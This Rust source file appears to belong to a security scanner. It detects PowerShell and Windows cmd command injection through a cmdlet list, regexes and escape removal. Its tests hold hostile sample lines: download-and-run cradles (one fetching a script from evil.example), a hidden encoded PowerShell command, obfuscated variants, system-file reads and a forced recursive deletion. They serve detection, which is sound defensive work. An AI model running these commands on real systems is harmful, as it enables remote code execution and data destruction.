//! Windows: PowerShell (the cmdlets that fetch, run, read and write, their aliases, .NET types
//! reached from a script, encoded commands and the switches that hide a window or lift the
//! execution policy) and `cmd.exe` (its `FOR` and `IF` constructs, `cmd /c`, environment
//! variables that name its directories). Caret (`^`) and backtick escapes, and quotes inside a
//! word, are removed before the words are read, as the shells do. Commands after separators
//! (`& dir c:\`) are the shell grammar's (`shell`).

use std::borrow::Cow;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::Regex;

use crate::features::{
    Features, BACKTICK, BRACKET, CARET, COLON, DASH, DOLLAR, PAREN, PERCENT, QUOTE, SPACE,
};
use crate::finding::AttackKind;
use crate::scan::{Hit, Subject};

/// Cmdlets that run code or commands, fetch or send data, read or change files, the registry,
/// services, users or the defender: seen in a value, they are a script.
const CMDLETS: &[&str] = &[
    "invoke-expression",
    "invoke-command",
    "invoke-webrequest",
    "invoke-restmethod",
    "invoke-item",
    "invoke-wmimethod",
    "invoke-cimmethod",
    "invoke-shellcode",
    "invoke-mimikatz",
    "start-process",
    "start-job",
    "start-bitstransfer",
    "start-service",
    "stop-service",
    "stop-process",
    "new-object",
    "new-service",
    "new-item",
    "new-itemproperty",
    "new-localuser",
    "new-psdrive",
    "new-pssession",
    "enter-pssession",
    "new-scheduledtask",
    "new-scheduledtaskaction",
    "register-scheduledtask",
    "get-content",
    "set-content",
    "add-content",
    "out-file",
    "get-childitem",
    "remove-item",
    "copy-item",
    "move-item",
    "rename-item",
    "get-item",
    "get-itemproperty",
    "set-itemproperty",
    "remove-itemproperty",
    "get-process",
    "get-service",
    "set-service",
    "get-wmiobject",
    "get-ciminstance",
    "get-localuser",
    "get-localgroupmember",
    "add-localgroupmember",
    "get-aduser",
    "get-credential",
    "convertto-securestring",
    "convertfrom-securestring",
    "set-executionpolicy",
    "set-mppreference",
    "add-mppreference",
    "get-acl",
    "set-acl",
    "import-module",
    "add-type",
    "get-hotfix",
    "get-computerinfo",
    "get-netipaddress",
    "get-netipconfiguration",
    "get-nettcpconnection",
    "test-netconnection",
    "resolve-dnsname",
    "clear-eventlog",
    "clear-history",
    "expand-archive",
    "compress-archive",
    "set-alias",
    "new-alias",
    "get-clipboard",
    "set-clipboard",
    "out-string",
    "select-string",
    "write-host",
    "write-output",
    "restart-computer",
    "stop-computer",
    "get-psdrive",
    "get-history",
];

static CMDLET_NAMES: LazyLock<AhoCorasick> = LazyLock::new(|| super::anchors(CMDLETS));

static POWERSHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)(?:^|[^a-z0-9_-])(?:iex|iwr|irm|icm|saps|sal|gci|gps|spps|gwmi|gcim|rni|sls|scb|gcb)\s*(?:\(|\s[$('"-]|\s+https?:)|\[\s*(?:system\.)?(?:convert|text\.encoding|reflection\.assembly|io\.file|io\.compression\.\w+|net\.webclient|net\.sockets\.\w+|diagnostics\.process|runtime\.interopservices\.marshal|environment|activator|appdomain|scriptblock|management\.automation\.\w+)\s*\]\s*::|\bnet\.webclient\b|\.download(?:string|file|data)(?:async)?\s*\(|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,40}?\s-(?:e|ec|enc|encodedcommand|c|command|nop|noprofile|noni|w|windowstyle|ep|executionpolicy|f|file|sta)\b|\s-(?:encodedcommand|enc)\s+[a-z0-9+/]{16,}={0,2}|\s-(?:executionpolicy|ep)\s+(?:bypass|unrestricted)\b|\s-(?:windowstyle|w)\s+hidden\b|\$env:(?:comspec|systemroot|windir|temp|appdata|userprofile|path)\b|\$psversiontable\b|\$executioncontext\b"#,
    )
    .expect("static powershell rule compiles")
});

/// `FOR /F ... %i IN (...) DO`, `IF EXIST path`, `IF ERRORLEVEL n`, `cmd /c`, `%COMSPEC%`.
static CMD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)\bfor\s+(?:/[dflr](?:\s+"[^"]*")?\s+)?%%?~?[a-z]\s+in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s+["']?(?:[a-z]:|\\\\|%|\.{1,2}\\)|errorlevel\s+\d|cmdextversion\s+\d|defined\s+\w+\s+\S)|\bcmd(?:\.exe)?["']?\s+/[ckr]\b|\bcommand\.com\b|%(?:comspec|systemroot|windir|programfiles|programdata|userprofile|appdata|localappdata|temp|tmp|systemdrive|homedrive|allusersprofile)%|\bcmd\.exe\b|\bpowershell\.exe\b"#,
    )
    .expect("static cmd rule compiles")
});

/// Words without which no PowerShell or cmd rule matches (cmdlets are found by their own
/// automaton).
static ANCHORS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    super::anchors(&[
        "iex",
        "iwr",
        "irm",
        "icm",
        "saps",
        "sal",
        "gci",
        "gps",
        "spps",
        "gwmi",
        "gcim",
        "rni",
        "sls",
        "scb",
        "gcb",
        "::",
        "webclient",
        ".download",
        "powershell",
        "pwsh",
        "-enc",
        "-executionpolicy",
        "-ep",
        "-windowstyle",
        "-w ",
        "$env:",
        "$psversiontable",
        "$executioncontext",
        "for /",
        "for %",
        "if exist",
        "if not",
        "if errorlevel",
        "if cmdextversion",
        "if defined",
        "if /i",
        "cmd",
        "command.com",
        "%comspec",
        "%systemroot",
        "%windir",
        "%programfiles",
        "%programdata",
        "%userprofile",
        "%appdata",
        "%localappdata",
        "%temp",
        "%tmp",
        "%systemdrive",
        "%homedrive",
        "%allusersprofile",
    ])
});

/// The text with cmd's caret and PowerShell's backtick escapes removed, and quotes that only
/// split a word (`p"owe"rshell`) dropped; borrowed when there is nothing to remove.
fn unescaped(text: &str, features: Features) -> Cow<'_, str> {
    if !features.has(CARET | BACKTICK | QUOTE) {
        return Cow::Borrowed(text);
    }
    let bytes = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut changed = false;
    for (index, character) in text.char_indices() {
        let removable = match character {
            '^' | '`' => true,
            '"' | '\'' => {
                let before = index
                    .checked_sub(1)
                    .map(|at| bytes[at])
                    .is_some_and(|byte| byte.is_ascii_alphanumeric());
                let after = bytes
                    .get(index + 1)
                    .is_some_and(|byte| byte.is_ascii_alphanumeric());
                before && after
            }
            _ => false,
        };
        if removable {
            changed = true;
        } else {
            out.push(character);
        }
    }
    if changed {
        Cow::Owned(out)
    } else {
        Cow::Borrowed(text)
    }
}

fn cmdlet(text: &str) -> Option<(usize, usize)> {
    let bytes = text.as_bytes();
    CMDLET_NAMES.find_iter(text).find_map(|found| {
        let word_byte = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_';
        let before = found.start().checked_sub(1).map(|at| bytes[at]);
        let after = bytes.get(found.end()).copied();
        let alone = !before.is_some_and(word_byte) && !after.is_some_and(word_byte);
        alone.then(|| (found.start(), found.end()))
    })
}

/// Values of letters, digits and dashes: a cmdlet name.
pub(crate) fn plain_value(text: &str, features: Features) -> Option<Hit> {
    if !features.has(DASH) || text.len() < 7 {
        return None;
    }
    cmdlet(text).map(|(start, end)| Hit::new(AttackKind::Rce, "rce.powershell", start, end))
}

pub(crate) fn detect(subject: &Subject<'_>) -> Option<Hit> {
    let features = subject.features;
    if subject.text.len() < 6 {
        return None;
    }
    let text = unescaped(subject.text, features);
    // Offsets in an unescaped copy are not the original's; the excerpt then starts at the
    // value's start.
    let place = |start: usize, end: usize| match &text {
        Cow::Borrowed(_) => (start, end),
        Cow::Owned(_) => (0, subject.text.len()),
    };
    if features.has(DASH) {
        if let Some((start, end)) = cmdlet(&text) {
            let (start, end) = place(start, end);
            return Some(Hit::new(AttackKind::Rce, "rce.powershell", start, end));
        }
    }
    // Every rule below needs a call, a switch, a variable, a `::` or a separated word.
    if !features.has(PAREN | SPACE | COLON | PERCENT | DOLLAR | QUOTE | CARET | BACKTICK | BRACKET)
        || !ANCHORS.is_match(text.as_ref())
    {
        return None;
    }
    if let Some(found) = POWERSHELL.find(&text) {
        let (start, end) = place(found.start(), found.end());
        return Some(Hit::new(AttackKind::Rce, "rce.powershell", start, end));
    }
    let may_be_cmd = features.has(PERCENT)
        || memchr::memchr2(b'/', b'.', text.as_bytes()).is_some()
        || text.len() >= 10;
    if may_be_cmd {
        if let Some(found) = CMD.find(&text) {
            let (start, end) = place(found.start(), found.end());
            return Some(Hit::new(AttackKind::Rce, "rce.windows-command", start, end));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::check;

    #[test]
    fn powershell_and_cmd_are_found() {
        check(
            detect,
            &[
                "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a')",
                "IEX(New-Object Net.WebClient).downloadString('http://x')",
                "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                "Get-Content C:\\Windows\\win.ini",
                "get-childitem -recurse c:\\users",
                "Start-Process calc.exe",
                "I`nvoke-Exp`ression 'whoami'",
                "[System.Convert]::FromBase64String('aWQ=')",
                "[Reflection.Assembly]::Load($bytes)",
                "iwr http://evil.example/a.ps1 -OutFile a.ps1",
                "for /f \"tokens=*\" %i in ('whoami') do echo %i",
                "for %i in (1 2 3) do ping 127.0.0.1",
                "if exist C:\\boot.ini type C:\\boot.ini",
                "cmd /c whoami",
                "c^m^d /c dir",
                "p\"owe\"rshell -c whoami",
                "%COMSPEC% /c dir",
                "$env:ComSpec",
                "Remove-Item -Recurse -Force C:\\inetpub",
            ],
            &[
                "Get well soon",
                "Set-top box not working",
                "Invoke the API with a POST",
                "New-York office",
                "for each item if needed",
                "if exist then fine",
                "Please check C:\\Program Files\\Shop\\config.ini",
                "Press Ctrl^C to stop",
                "2^10 = 1024",
                "100% guaranteed",
                "The command line is long",
                "my-content-type",
                "get-content-length",
            ],
        );
    }
}
